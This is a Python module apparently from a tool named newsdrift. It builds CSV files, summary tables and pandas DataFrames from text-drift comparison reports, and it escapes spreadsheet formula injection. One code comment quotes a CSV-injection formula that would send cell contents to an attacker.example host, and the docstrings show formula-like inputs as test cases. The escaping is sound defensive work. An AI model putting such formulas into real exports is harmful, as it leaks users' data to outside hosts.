"""Tables: views of a report (the ``report.json`` structure, :meth:`Comparison.to_dict`).

Rows keep plain Python types (numbers as numbers, indices and flags as lists), so
``pandas.DataFrame(rows)`` gets numeric columns; only the writers (:func:`csv_text`,
:func:`summary_table`) format numbers as text. Every CSV drift writes goes through
:func:`format_csv`, which escapes text a spreadsheet would run as a formula.
:func:`pairs_frame` and :func:`summary_frame` build the same tables as pandas DataFrames with
stated dtypes (pandas is an optional extra: ``pip install 'newsdrift[pandas]'``).
"""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Iterable, Mapping, Sequence
from typing import TYPE_CHECKING, Any

if TYPE_CHECKING:
    import pandas

__all__ = ["pair_rows", "summary_rows", "csv_text", "format_csv", "csv_cell", "summary_table",
           "CSV_COLUMNS",
           "SUMMARY_COLUMNS", "FRAME_COLUMNS", "format_value", "pairs_frame", "summary_frame"]

Report = Mapping[str, Any]

CSV_COLUMNS = ["derivative", "base_idx", "derivative_idx", "label", "similarity", "drift",
               "severity", "lexical", "moved", "flags", "changes", "evidence", "base_text",
               "derivative_text", "signature"]
SUMMARY_COLUMNS = ["derivative", "name", "verdict", "kind", "p_derived", "coverage", "support",
                   "mean_drift",
                   "median_drift", "max_drift", "mean_similarity", "mean_lexical", "n_pairs",
                   "n_omissions", "n_additions", "n_moved", "signature"]

#: columns of :func:`pairs_frame`: :data:`CSV_COLUMNS` with the derivative's short ``name``
FRAME_COLUMNS = ["derivative", "name", *CSV_COLUMNS[1:]]
_FLOAT_PAIR_COLUMNS = ("similarity", "drift", "severity", "lexical")
_FLOAT_SUMMARY_COLUMNS = ("p_derived", "coverage", "support", "mean_drift", "median_drift",
                          "max_drift",
                          "mean_similarity", "mean_lexical")
_INT_SUMMARY_COLUMNS = ("n_pairs", "n_omissions", "n_additions", "n_moved")


def _join(sentences: Sequence[str], idx: Sequence[int]) -> str:
    return " ".join(sentences[i] for i in idx)


def pair_rows(report: Report) -> list[dict[str, Any]]:
    """One flat dict per pair of every derivative.

    Keys are :data:`CSV_COLUMNS`; ``similarity``, ``drift``, ``severity`` and ``lexical`` are
    floats (None for an omission or addition, or a pair not explained), ``base_idx`` /
    ``derivative_idx`` lists of int, ``moved`` a bool, ``flags`` a list of str, ``changes`` and
    ``evidence`` lists of dicts.
    """
    base = report["base"]["sentences"]
    rows = []
    for d in report["derivatives"]:
        for p in d["pairs"]:
            rows.append({
                "derivative": d["path"],
                "base_idx": list(p["base"]),
                "derivative_idx": list(p["derivative"]),
                "label": p["label"],
                "similarity": p["similarity"],
                "drift": p["drift"],
                "severity": p.get("severity"),
                "lexical": p["lexical"],
                "moved": bool(p["moved"]),
                "flags": list(p["flags"]),
                "changes": [dict(c) for c in p["changes"]],
                "evidence": [dict(e) for e in p.get("evidence", [])],
                "base_text": _join(base, p["base"]),
                "derivative_text": _join(d["sentences"], p["derivative"]),
                "signature": report["signature"],
            })
    return rows


def summary_rows(report: Report) -> list[dict[str, Any]]:
    """One flat dict per derivative (keys :data:`SUMMARY_COLUMNS`), numbers as numbers."""
    out = []
    for d in report["derivatives"]:
        s = d["summary"]
        row: dict[str, Any] = {"derivative": d["path"], "name": d.get("name", d["path"])}
        row.update({k: s.get(k) for k in SUMMARY_COLUMNS if k in s})
        row["signature"] = report["signature"]
        out.append({k: row.get(k) for k in SUMMARY_COLUMNS})
    return out


def format_value(value: Any, decimals: int = 4) -> str:
    """How the text writers show one cell: ``None`` -> empty, floats with ``decimals``
    places, lists of numbers or words joined by spaces, lists of dicts as JSON, bools as 0/1.

    >>> format_value(0.123456), format_value([3, 4]), format_value(None), format_value(True)
    ('0.1235', '3 4', '', '1')
    """
    if value is None:
        return ""
    if isinstance(value, bool):
        return str(int(value))
    if isinstance(value, float):
        return f"{value:.{decimals}f}"
    if isinstance(value, (list, tuple)):
        if value and isinstance(value[0], Mapping):
            return json.dumps([dict(v) for v in value], ensure_ascii=False)
        return " ".join(str(v) for v in value)
    return str(value)


#: a text cell starting with one of these is a formula to a spreadsheet (OWASP, "CSV
#: injection"): ``=HYPERLINK("http://attacker.example/?d="&B2)`` in an article would run
_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def csv_cell(value: Any) -> str:
    """One CSV cell: :func:`format_value`, and text that a spreadsheet would evaluate as a
    formula (starting with ``= + - @``, a tab or a carriage return) prefixed with ``'``, which
    spreadsheets show as text. Numbers stay numbers (``-0.25`` is not text).

    >>> csv_cell("=1+2"), csv_cell(-0.25), csv_cell("-2-3"), csv_cell(["@x", "y"])
    ("'=1+2", '-0.2500', "'-2-3", "'@x y")
    """
    text = format_value(value)
    if isinstance(value, (int, float)) or value is None:  # bools are ints
        return text
    return "'" + text if text.startswith(_FORMULA_START) else text


def format_csv(columns: Sequence[str], rows: Iterable[Mapping[str, Any]]) -> str:
    r"""CSV text with a header, every value a :func:`csv_cell` (numbers formatted by
    :func:`format_value`; text that a spreadsheet would run as a formula escaped; a row with a
    carriage return in a cell is quoted whole, so it stays one row). Every CSV drift writes
    goes through here.

    >>> format_csv(["a", "b"], [{"a": 0.5, "b": "=cmd()"}])
    "a,b\n0.5000,'=cmd()\n"
    """
    buf = io.StringIO()
    w = csv.DictWriter(buf, fieldnames=list(columns), lineterminator="\n")
    # a carriage return alone is not quoted by the csv module (it only quotes the line
    # terminator), yet every reader ends a line there: a row holding one is quoted whole
    quoted = csv.DictWriter(buf, fieldnames=list(columns), lineterminator="\n",
                            quoting=csv.QUOTE_ALL)
    w.writeheader()
    for row in rows:
        cells = {k: csv_cell(v) for k, v in row.items()}
        (quoted if any("\r" in c for c in cells.values()) else w).writerow(cells)
    return buf.getvalue()


def csv_text(report: Report) -> str:
    """``pairs.csv``: :func:`pair_rows` with the numbers formatted by :func:`format_value`."""
    return format_csv(CSV_COLUMNS, pair_rows(report))


def summary_table(report: Report) -> str:
    """A fixed-width table: one line per derivative, then the base and the signature."""
    head = ("derivative", "verdict", "kind", "p_derived", "coverage", "support", "mean drift",
            "worst", "pairs", "omitted", "added", "moved")
    rows = []
    for d in report["derivatives"]:
        s = d["summary"]
        rows.append((d.get("name", d["path"]), s["verdict"], s["kind"],
                     format_value(s.get("p_derived"), 2) or "-",
                     format_value(s["coverage"], 2), format_value(s["support"], 2),
                     format_value(s["mean_drift"], 3), format_value(s["max_drift"], 3),
                     str(s["n_pairs"]), str(s["n_omissions"]), str(s["n_additions"]),
                     str(s["n_moved"])))
    widths = [max(len(r[c]) for r in [head, *rows]) for c in range(len(head))]
    lines = ["  ".join(v.ljust(w) if c < 3 else v.rjust(w) for c, (v, w)
                       in enumerate(zip(r, widths))) for r in [head, *rows]]
    lines.insert(1, "  ".join("-" * w for w in widths))
    base = report["base"]
    lines.append("")
    n_removed = sum(max(r.get("last_line", -1) - r.get("line", -1) + 1, 1)
                    for r in base.get("removed_detail", [])) or len(base["removed"])
    lines.append(f"base: {base['path']} ({len(base['sentences'])} sentences, {n_removed} "
                 f"line{'' if n_removed == 1 else 's'} of furniture removed)")
    lines.append(f"signature: {report['signature']}")
    return "\n".join(lines)


def _pandas() -> Any:
    try:
        import pandas
    except ImportError:
        raise ImportError("this table needs pandas, which is not installed: "
                          "pip install 'newsdrift[pandas]'") from None
    return pandas


def pairs_frame(report: Report) -> pandas.DataFrame:
    """The pairs table (:func:`pair_rows`) as a DataFrame, one row per pair.

    Columns are :data:`FRAME_COLUMNS`: ``similarity``, ``drift`` and ``lexical`` are float64
    (NaN for an omission or addition), ``moved`` is bool, ``base_idx``, ``derivative_idx`` and
    ``flags`` hold lists, ``changes`` lists of dicts, the rest text. ``name`` is the
    derivative's short name (file name without folder and extension).

    Raises:
        ImportError: pandas is not installed (one line saying how to install it).
    """
    pd = _pandas()
    names = {d["path"]: d.get("name", d["path"]) for d in report["derivatives"]}
    rows = [{**r, "name": names[r["derivative"]]} for r in pair_rows(report)]
    frame = pd.DataFrame(rows, columns=FRAME_COLUMNS)
    return frame.astype({**{c: "float64" for c in _FLOAT_PAIR_COLUMNS}, "moved": "bool"})


def summary_frame(report: Report) -> pandas.DataFrame:
    """The summary (:func:`summary_rows`) as a DataFrame, one row per derivative.

    Columns are :data:`SUMMARY_COLUMNS`: coverage, support and the drift and similarity means
    are float64 (NaN where a derivative has no aligned pair), the counts int64, the rest text.

    Raises:
        ImportError: pandas is not installed (one line saying how to install it).
    """
    pd = _pandas()
    frame = pd.DataFrame(summary_rows(report), columns=SUMMARY_COLUMNS)
    return frame.astype({**{c: "float64" for c in _FLOAT_SUMMARY_COLUMNS},
                         **{c: "int64" for c in _INT_SUMMARY_COLUMNS}})
